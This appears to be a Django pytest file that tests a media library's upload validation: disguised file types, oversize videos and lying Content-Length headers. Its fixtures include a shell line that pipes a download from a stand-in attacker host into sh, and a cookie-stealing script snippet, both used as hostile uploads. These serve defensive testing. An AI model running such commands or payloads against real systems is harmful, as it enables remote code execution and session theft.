"""Upload abuse on the media library (HTML and API): wrong types, oversize, lying Content-Length."""

from __future__ import annotations

import socket
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from rest_framework.test import APIClient

from accounts.models import Role, User, Workspace
from accounts.token_services import api_token_create
from calendar_app.models import MediaAsset
from tests.factories import MembershipFactory, UserFactory, WorkspaceFactory

SCRIPT_FILE = b"#!/bin/sh\ncurl http://evil.example/x | sh\n" * 20
HTML_FILE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def tiny_jpeg(width: int = 640, height: int = 480) -> bytes:
    """Just enough JPEG for a content sniffer: SOI, JFIF APP0, a baseline SOF0 frame, EOI."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = struct.pack(">BHHB", 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return (
        b"\xff\xd8"
        + b"\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0
        + b"\xff\xc0" + struct.pack(">H", len(sof0) + 2) + sof0
        + b"\xff\xd9"
    )  # fmt: skip


@pytest.fixture(scope="module")
def real_mp4(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A genuine 1 s 360x640 H.264 MP4 that passes every content check but size."""
    import imageio_ffmpeg

    out = tmp_path_factory.mktemp("mp4") / "real.mp4"
    subprocess.run(
        [
            imageio_ffmpeg.get_ffmpeg_exe(), "-y", "-loglevel", "error", "-f", "lavfi",
            "-i", "testsrc=size=360x640:rate=30", "-t", "1", "-c:v", "libx264",
            "-preset", "ultrafast", "-pix_fmt", "yuv420p", str(out),
        ],
        check=True,
        timeout=120,
    )  # fmt: skip
    return out.read_bytes()


@pytest.fixture
def media_root(settings: Any, tmp_path: Path) -> Path:
    root = tmp_path / "media"
    settings.MEDIA_ROOT = str(root)
    return root


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def assert_nothing_stored(workspace: Workspace, root: Path) -> None:
    assert MediaAsset.objects.for_workspace(workspace).count() == 0
    assert stored_files(root) == []


HOSTILE = [
    pytest.param("clip.mp4", SCRIPT_FILE, "video/mp4", id="shell-script-renamed-mp4"),
    pytest.param("clip.mp4", HTML_FILE, "video/mp4", id="html-as-video-mp4"),
    pytest.param("clip.html", HTML_FILE, "text/html", id="plain-html"),
    pytest.param("clip.mp4", b"", "video/mp4", id="empty-file"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content", "content_type"), HOSTILE)
def test_html_upload_rejects_files_that_are_not_media(
    name: str,
    content: bytes,
    content_type: str,
    owner: User,
    workspace: Workspace,
    media_root: Path,
    client_for: Callable[[User], Client],
) -> None:
    client = client_for(owner)
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    response = client.post(f"/w/{workspace.id}/media/", {"file": upload})
    assert response.status_code in (200, 400)
    assert "errorlist" in response.content.decode() or b"error" in response.content
    assert_nothing_stored(workspace, media_root)

    upload = SimpleUploadedFile(name, content, content_type=content_type)
    as_json = client.post(
        f"/w/{workspace.id}/media/", {"file": upload}, headers={"Accept": "application/json"}
    )
    assert as_json.status_code == 400
    assert as_json.json()["error"]["code"] in ("media_rejected", "validation_failed")
    assert_nothing_stored(workspace, media_root)


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content", "content_type"), HOSTILE)
def test_api_upload_rejects_files_that_are_not_media(
    name: str,
    content: bytes,
    content_type: str,
    owner: User,
    workspace: Workspace,
    media_root: Path,
    api_client_for: Callable[[User], APIClient],
) -> None:
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    response = api_client_for(owner).post(
        f"/api/v1/w/{workspace.id}/media/", {"file": upload}, format="multipart"
    )
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] in ("media_rejected", "validation_failed")
    assert_nothing_stored(workspace, media_root)


@pytest.mark.django_db
def test_an_image_named_mp4_is_stored_as_the_image_it_is(
    owner: User,
    workspace: Workspace,
    media_root: Path,
    api_client_for: Callable[[User], APIClient],
    client_for: Callable[[User], Client],
) -> None:
    upload = SimpleUploadedFile("movie.mp4", tiny_jpeg(), content_type="video/mp4")
    response = api_client_for(owner).post(
        f"/api/v1/w/{workspace.id}/media/", {"file": upload}, format="multipart"
    )
    assert response.status_code == 201, response.content
    body = response.json()
    assert (body["kind"], body["content_type"]) == ("image", "image/jpeg")
    (stored,) = stored_files(media_root)
    assert stored.suffix == ".jpg"  # the stored name never reuses the uploader's
    served = client_for(owner).get(body["url"])
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_oversized_video_is_refused_by_html_and_api(
    settings: Any,
    real_mp4: bytes,
    owner: User,
    workspace: Workspace,
    media_root: Path,
    client_for: Callable[[User], Client],
    api_client_for: Callable[[User], APIClient],
) -> None:
    settings.MEDIA_MAX_VIDEO_BYTES = len(real_mp4) - 1
    page = client_for(owner).post(
        f"/w/{workspace.id}/media/",
        {"file": SimpleUploadedFile("big.mp4", real_mp4, content_type="video/mp4")},
    )
    assert page.status_code in (200, 400)
    assert b"the limit is" in page.content
    api = api_client_for(owner).post(
        f"/api/v1/w/{workspace.id}/media/",
        {"file": SimpleUploadedFile("big.mp4", real_mp4, content_type="video/mp4")},
        format="multipart",
    )
    assert api.status_code == 400
    assert api.json()["error"]["code"] == "media_too_large"
    assert_nothing_stored(workspace, media_root)
    # The control: one byte more of allowance and the same file is accepted.
    settings.MEDIA_MAX_VIDEO_BYTES = len(real_mp4)
    ok = api_client_for(owner).post(
        f"/api/v1/w/{workspace.id}/media/",
        {"file": SimpleUploadedFile("ok.mp4", real_mp4, content_type="video/mp4")},
        format="multipart",
    )
    assert ok.status_code == 201, ok.content


def _multipart(content: bytes) -> bytes:
    return encode_multipart(
        BOUNDARY, {"file": SimpleUploadedFile("clip.mp4", content, content_type="video/mp4")}
    )


@pytest.mark.django_db
@pytest.mark.parametrize("lie", ["claims-less", "claims-more"])
@pytest.mark.parametrize("interface", ["html", "api"])
def test_lying_content_length_is_a_clear_error_and_stores_nothing(
    lie: str,
    interface: str,
    real_mp4: bytes,
    owner: User,
    workspace: Workspace,
    media_root: Path,
    client_for: Callable[[User], Client],
) -> None:
    body = _multipart(real_mp4)
    declared = len(body) // 2 if lie == "claims-less" else len(body) + 4096
    path = (
        f"/w/{workspace.id}/media/" if interface == "html" else f"/api/v1/w/{workspace.id}/media/"
    )
    # A short stream, as when the client hangs up before the length it announced.
    environ: dict[str, Any] = {
        "CONTENT_TYPE": MULTIPART_CONTENT,
        "CONTENT_LENGTH": str(declared),
        "wsgi.input": _Stream(body),
    }
    response = client_for(owner).generic(
        "POST",
        path,
        b"",
        content_type=MULTIPART_CONTENT,
        headers={"Accept": "application/json"},
        **environ,
    )
    assert response.status_code == 400, response.content
    assert response.json()["error"]["message"]
    assert_nothing_stored(workspace, media_root)


class _Stream:
    """A wsgi.input that ends where the bytes end, whatever Content-Length said."""

    def __init__(self, data: bytes) -> None:
        self._data = data
        self._pos = 0

    def read(self, size: int = -1) -> bytes:
        end = len(self._data) if size is None or size < 0 else self._pos + size
        chunk = self._data[self._pos : end]
        self._pos += len(chunk)
        return chunk

    def readline(self, size: int = -1) -> bytes:
        newline = self._data.find(b"\n", self._pos)
        end = len(self._data) if newline < 0 else newline + 1
        if size is not None and size >= 0:
            end = min(end, self._pos + size)
        return self.read(end - self._pos)


def _raw_request(host: str, port: int, head: bytes, body: bytes) -> bytes:
    with socket.create_connection((host, port), timeout=20) as sock:
        sock.sendall(head + body)
        # Hang up our side: the server sees end-of-stream where it expected more bytes.
        sock.shutdown(socket.SHUT_WR)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


@pytest.mark.django_db(transaction=True)
def test_lying_content_length_over_a_real_socket(
    live_server: Any, real_mp4: bytes, media_root: Path
) -> None:
    user = UserFactory.create()
    workspace = WorkspaceFactory.create()
    MembershipFactory.create(workspace=workspace, user=user, role=Role.OWNER)
    body = _multipart(real_mp4)
    host, port = live_server.thread.host, live_server.thread.port
    auth = api_token_create(
        user=user, name="t", access="read_write", workspace_ids=[workspace.id], lifetime_days=7
    ).secret
    for declared in (len(body) // 2, len(body) + 4096):
        head = (
            f"POST /api/v1/w/{workspace.id}/media/ HTTP/1.1\r\n"
            f"Host: {host}:{port}\r\n"
            f"Authorization: Bearer {auth}\r\n"
            f"Content-Type: {MULTIPART_CONTENT}\r\n"
            f"Content-Length: {declared}\r\n"
            "Accept: application/json\r\nConnection: close\r\n\r\n"
        ).encode()
        raw = _raw_request(host, port, head, body)
        status_line = raw.split(b"\r\n", 1)[0]
        assert status_line.split()[1] == b"400", (declared, len(body), raw[:600])
        assert b'"error"' in raw
        assert_nothing_stored(workspace, media_root)
